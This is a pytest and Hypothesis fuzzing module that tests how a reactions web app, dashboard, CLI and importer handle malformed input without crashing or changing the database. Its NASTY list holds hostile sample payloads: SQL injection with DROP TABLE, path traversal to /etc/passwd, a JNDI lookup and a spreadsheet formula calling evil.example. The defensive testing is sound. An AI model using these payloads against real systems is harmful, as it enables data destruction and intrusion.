"""Bad input, tried on purpose, at every entry point: the JSON API (bodies and headers), the
export API's query, the dashboard's URL, the CLI's options and imported files. Each gets a
clear error or a correct answer — never a traceback — the database's content is the same
afterwards, and the server keeps serving. Hypothesis explores where the space is large."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import streamlit as st
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as s
from starlette.testclient import TestClient
from streamlit.testing.v1 import AppTest

from reactions.errors import ReactionsError
from reactions.store.article_import import import_articles
from reactions.store.connection import connect
from reactions.store.store import Store
from reactions.web.tokens import create_token
from tests.test_api import SEED, client, db  # noqa: F401 - the module's app and its database
from tests.test_dashboard import ENTRY

NASTY = [
    "'; DROP TABLE reaction_events; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "\x00\x01\x1b[31m\x7f",
    '=HYPERLINK("http://evil.example")',
    "Ελληνικά العربية 中文 🙂\u202eevil",
    "x" * 20_000,
    "%s%s%n",
    "${jndi:ldap://evil.example/a}",
]
TEXT = s.one_of(s.sampled_from(NASTY), s.text(max_size=300))
JSON_VALUE = s.recursive(
    s.none() | s.booleans() | s.integers() | s.floats(allow_nan=False, allow_infinity=False) | TEXT,
    lambda inner: (
        s.lists(inner, max_size=4) | s.dictionaries(s.text(max_size=10), inner, max_size=4)
    ),
    max_leaves=8,
)
REJECTED = {400, 403, 404, 413, 415, 422, 429}
FUZZ = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def content_digest(path: Path) -> str:
    """Every row of every table, as a multiset: the database's content (but the export tokens,
    which the export fuzzing creates for itself). DuckDB hashes each whole row (the table
    alias is the row) and sums the hashes, so millions of view rows take a moment, not a
    minute in Python."""
    with connect(path, migrate=False) as con:
        digest = hashlib.sha256()
        for (table,) in con.execute(
            "SELECT table_name FROM information_schema.tables "
            "WHERE table_name <> 'api_tokens' ORDER BY 1"
        ).fetchall():
            rows = con.execute(f'SELECT count(*), sum(hash(t)::HUGEINT) FROM "{table}" t')
            digest.update(repr((table, rows.fetchall())).encode())
        return digest.hexdigest()


@FUZZ
@given(
    body=s.one_of(
        s.dictionaries(
            s.sampled_from(["article_id", "kind", "reader_id", "extra", "Article_Id"]),
            JSON_VALUE,
            max_size=4,
        ),
        JSON_VALUE,
    ),
    article=s.one_of(TEXT, s.just("x-no-such-article")),
)
def test_reaction_and_view_bodies_of_any_shape_are_refused_and_write_nothing(
    client: TestClient,  # noqa: F811
    body: Any,
    article: str,
) -> None:
    if isinstance(body, dict) and "article_id" in body and isinstance(body["article_id"], str):
        body["article_id"] = "x-" + body["article_id"]  # never a real article: nothing may land
    response = client.post("/api/v1/reactions", json=body)
    assert response.status_code in REJECTED, (body, response.text)
    assert set(response.json()) == {"error"}
    answer = client.get(f"/api/v1/articles/{quote(article[:300], safe='')}/reactions")
    assert answer.status_code in {400, 404, 422}  # no such article, or not a usable path
    # the same body as a view of the bar: refused the same way, nothing counted
    view = client.post("/api/v1/views", json=body)
    assert view.status_code in REJECTED, (body, view.text)
    assert set(view.json()) == {"error"}


@FUZZ
@given(
    raw=s.binary(max_size=6000),
    content_type=s.sampled_from(
        [
            "application/json",
            "text/plain",
            "application/json; charset=latin-1",
            "",
            "multipart/form-data",
        ]
    ),
)
def test_raw_bytes_and_odd_headers_are_refused(
    client: TestClient,  # noqa: F811
    raw: bytes,
    content_type: str,
) -> None:
    headers = {"content-type": content_type} if content_type else {}
    response = client.post("/api/v1/reactions", content=raw, headers=headers)
    assert response.status_code in REJECTED
    assert "error" in response.json()


def test_after_the_fuzzing_the_database_is_the_same_and_the_server_serves(
    client: TestClient,  # noqa: F811
    db: Path,  # noqa: F811
    demo_db: Path,
) -> None:
    assert content_digest(db) == content_digest(demo_db)  # this module's own copy
    ok = client.get(f"/api/v1/articles/{SEED}/reactions")
    assert ok.status_code == 200 and ok.json()["article_id"] == SEED


@FUZZ
@given(
    params=s.dictionaries(
        s.sampled_from(
            ["range", "from", "to", "topic", "author", "tag", "kind", "q", "interval", "tz", "x"]
        ),
        s.lists(TEXT.map(lambda t: t[:500]), min_size=1, max_size=3),
        max_size=5,
    ),
    dataset=s.sampled_from(["events", "articles", "timeseries", "nope", "../secrets"]),
)
def test_export_queries_of_any_shape_answer_a_file_or_a_clear_error(
    client: TestClient,  # noqa: F811
    params: dict[str, list[str]],
    dataset: str,
) -> None:
    from reactions.ui.resources import get_store

    token = getattr(test_export_queries_of_any_shape_answer_a_file_or_a_clear_error, "token", None)
    if token is None:
        token = create_token(get_store(), "hardening").token
        test_export_queries_of_any_shape_answer_a_file_or_a_clear_error.token = token  # type: ignore[attr-defined]
    response = client.get(
        f"/api/v1/export/{dataset}.csv",
        params=[(k, v) for k, values in params.items() for v in values],
        headers={"Authorization": f"Bearer {token}"},
    )
    assert response.status_code in {200, 404, 422}, response.text[:300]
    if dataset.startswith(".."):  # resolved to a path outside the API: the app's page shell
        assert "x-reactions-rows" not in response.headers
        assert not response.headers.get("content-type", "").startswith("text/csv")
        return
    if response.status_code != 200:
        assert set(response.json()) == {"error"}
    assert response.headers["x-content-type-options"] == "nosniff"


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    params=s.dictionaries(
        s.sampled_from(
            ["range", "from", "to", "topic", "tag", "kind", "q", "interval", "tz", "sort", "id"]
        ),
        TEXT.map(lambda t: t[:300].replace("\x00", "")),
        max_size=5,
    )
)
def test_dashboard_links_of_any_shape_render_without_an_exception(
    demo_db: Path, monkeypatch: pytest.MonkeyPatch, params: dict[str, str]
) -> None:
    monkeypatch.setenv("REACTIONS_DB", str(demo_db))
    st.cache_data.clear()
    at = AppTest.from_file(ENTRY, default_timeout=60)
    for key, value in params.items():
        at.query_params[key] = value
    at.run()
    assert not at.exception, (params, at.exception)


@pytest.mark.parametrize(
    "args",
    [
        ["export", "articles", "--topic", NASTY[0]],
        ["export", "events", "--q", NASTY[1], "--tz", NASTY[2]],
        ["export", "timeseries", "--from", "2026-13-45", "--to", "-1"],
        ["export", "events", "--kind", NASTY[4].replace("\x00", "")],  # argv cannot hold NUL
        ["export", "articles", "--interval", "x" * 50_000],
        ["token", "revoke", NASTY[0]],
        ["token", "create", "--name", "\x01\x02\x1b[2J"],
        ["import-articles", "../../../../etc/passwd"],
        ["demo", "--events", "-99999999999999999999"],
    ],
)
def test_cli_options_get_one_line_and_leave_the_file_untouched(
    demo_db: Path, tmp_path: Path, args: list[str]
) -> None:
    copy = tmp_path / "cli.duckdb"
    shutil.copy(demo_db, copy)
    before = hashlib.sha256(copy.read_bytes()).hexdigest()
    output = ["-o", str(tmp_path / "out.csv")] if args[0] == "export" else []
    done = subprocess.run(
        [sys.executable, "-m", "reactions", *args, *output, "--db", str(copy)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert done.returncode != 0 and len(lines) == 1 and lines[0].startswith("error: "), done.stderr
    assert "Traceback" not in done.stderr
    assert hashlib.sha256(copy.read_bytes()).hexdigest() == before
    assert not (tmp_path / "out.csv").exists()


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    data=s.one_of(
        s.binary(max_size=3000),
        s.text(max_size=2000).map(str.encode),
        s.lists(s.lists(TEXT.map(lambda t: t[:200]), max_size=5), max_size=5).map(
            lambda rows: "\n".join(",".join(json.dumps(c) for c in r) for r in rows).encode()
        ),
    ),
    suffix=s.sampled_from([".csv", ".json", ".xml", ".rss", ".txt"]),
)
def test_imported_files_of_any_content_are_refused_or_reported_never_crash(
    store: Store, tmp_path: Path, data: bytes, suffix: str
) -> None:
    path = tmp_path / f"upload{suffix}"
    path.write_bytes(data)
    before = store.cursor().execute("SELECT count(*) FROM articles").fetchall()[0][0]
    try:
        report = import_articles(store, path)
    except ReactionsError:
        assert store.cursor().execute("SELECT count(*) FROM articles").fetchall()[0][0] == before
        return
    assert report.added + report.updated + len(report.rejected) >= 0


def test_a_megabyte_body_and_very_long_values_are_refused_briefly(
    client: TestClient,  # noqa: F811
) -> None:
    megabyte = "é" * 500_000  # 1 MB of UTF-8
    body = client.post(
        "/api/v1/reactions", json={"article_id": megabyte, "kind": "like", "reader_id": "r"}
    )
    assert body.status_code == 413 and "over 4,096 bytes" in body.json()["error"]
    from reactions.ui.resources import get_store

    token = create_token(get_store(), "megabyte").token
    long_value = megabyte[:10_000]  # 60 kB once URL-encoded: what a client will still send
    query = client.get(
        "/api/v1/export/articles.csv",
        params={"topic": long_value},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert query.status_code == 422 and query.json()["error"].startswith("Unknown topic")
    assert len(query.content) < 1_000  # the error names the value briefly, not all of it
    path = client.get(f"/api/v1/articles/{'a' * 60_000}/reactions")
    assert path.status_code == 404 and len(path.content) < 1_000
